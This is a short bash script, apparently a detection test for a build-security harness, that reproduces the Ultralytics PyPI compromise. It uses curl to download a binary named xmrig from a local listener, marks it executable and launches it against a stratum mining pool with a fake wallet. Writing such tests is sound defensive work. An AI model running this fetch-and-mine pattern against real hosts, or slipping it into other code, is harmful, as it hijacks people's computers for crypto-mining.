#!/bin/bash
# technique: T1496.001 Resource Hijacking: Compute Hijacking; T1105 Ingress Tool Transfer
# reproduces: Ultralytics 8.3.41/8.3.42 (2024): the poisoned PyPI build shipped a downloader that fetched XMRig and started it against a mining pool
# expect: crypto-miner ^xmrig$
# exec-borne: yes
#
# The miner (the harmless payload) is downloaded as xmrig and started
# with a stratum pool URL (the harness's listener; nothing is mined).
set -u

pool="stratum+tcp://127.0.0.1:${BW_ATTACK_LISTEN_PORT:?}"
wallet=4AfakeWalletForBuildwardenTestsNotARealMoneroAddress000000000000000000000000000000000000000
dir=$(mktemp -d "${BW_ATTACK_TMP:?}/xmrig-6.21.0-XXXX")
trap 'rm -rf "$dir"' EXIT

curl -fsSL --connect-timeout 5 -o "$dir/xmrig" "http://127.0.0.1:${BW_ATTACK_PORT:?}/agent" || exit 1
chmod +x "$dir/xmrig"

"$dir/xmrig" -o "$pool" -u "$wallet" -p ultralytics --donate-level 1 --cpu-max-threads-hint=50
